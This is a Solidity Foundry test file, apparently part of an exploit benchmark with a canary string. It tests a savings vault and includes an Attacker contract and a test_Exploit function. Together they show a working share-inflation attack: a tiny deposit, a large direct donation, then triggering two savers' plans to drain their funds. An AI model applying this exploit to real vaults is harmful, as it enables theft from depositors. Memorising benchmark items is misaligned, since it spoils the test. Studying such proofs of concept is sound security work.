// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-ff737377-c74e-467a-b75b-4e44cf0640f0

import "./SavingsVault.sol";

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Dollar is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 100_000_000e6);
    }
}

/// All in one transaction.
contract Attacker {
    function visit(SavingsVault vault, address[2] calldata savers) external {
        IERC20 dollar = vault.dollar();
        dollar.approve(address(vault), 1);
        vault.deposit(1, 1);
        dollar.transfer(address(vault), dollar.balanceOf(address(this)));
        vault.runPlan(savers[0]);
        vault.runPlan(savers[1]);
        vault.redeem(1_000);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANNA = address(0xA22A);
    address private constant BELA = address(0xBE1A);
    uint256 private constant START = 1_768_400_000;

    Dollar public dollar;
    SavingsVault public vault;
    Attacker public visitor;

    function setUp() public {
        vm.warp(START);
        dollar = new Dollar();
        vault = new SavingsVault(dollar);
        _plan(ANNA);
        _plan(BELA);
        visitor = new Attacker();
        dollar.transfer(address(visitor), 21_000_000e6);
    }

    function _plan(address who) private {
        dollar.transfer(who, 50_000e6);
        vm.startPrank(who);
        dollar.approve(address(vault), type(uint256).max);
        vault.setPlan(10_000e6, 30 days);
        vm.stopPrank();
    }

    function test_Regular() public {
        require(vault.runPlan(ANNA) == 10_000e9 && vault.runPlan(BELA) == 10_000e9, "run");
        vm.prank(BELA);
        vault.endPlan();
        vm.warp(START + 75 days);
        vault.runPlan(ANNA);
        require(vault.balanceOf(ANNA) == 20_000e9 && vault.held() == 30_000e6, "run again");
        vm.startPrank(ANNA);
        require(vault.redeem(5_000e9) == 5_000e6 && dollar.balanceOf(ANNA) == 35_000e6, "redeemed");
        vault.transfer(BELA, 1_000e9);
        vault.approve(BELA, 1_000e9);
        vm.stopPrank();
        vm.startPrank(BELA);
        vault.transferFrom(ANNA, BELA, 1_000e9);
        require(vault.deposit(1_000e6, 1_000e9) == 1_000e9, "bought");
        require(vault.redeem(13_000e9) == 13_000e6, "all of it");
        vm.stopPrank();
    }

    function test_RefusesPlans() public {
        vm.expectRevert(abi.encodeWithSelector(SavingsVault.TooOften.selector, uint64(1 days - 1)));
        vault.setPlan(1, uint64(1 days - 1));
        vm.expectRevert(abi.encodeWithSelector(SavingsVault.NotDue.selector, address(this)));
        vault.runPlan(address(this));
        vault.runPlan(ANNA);
        vm.warp(START + 30 days - 1);
        vm.expectRevert(abi.encodeWithSelector(SavingsVault.NotDue.selector, ANNA));
        vault.runPlan(ANNA);
    }

    function test_RefusesFewShares() public {
        dollar.approve(address(vault), 10);
        vm.expectRevert(abi.encodeWithSelector(Pot.TooFewShares.selector, 10_000, 10_001));
        vault.deposit(10, 10_001);
    }

    function exploit() public {
        visitor.visit(vault, [ANNA, BELA]);
    }

    function test_Exploit() public {
        exploit();
        require(dollar.balanceOf(address(visitor)) >= 21_019_000e6, "no gain");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(visitor);
    }
}
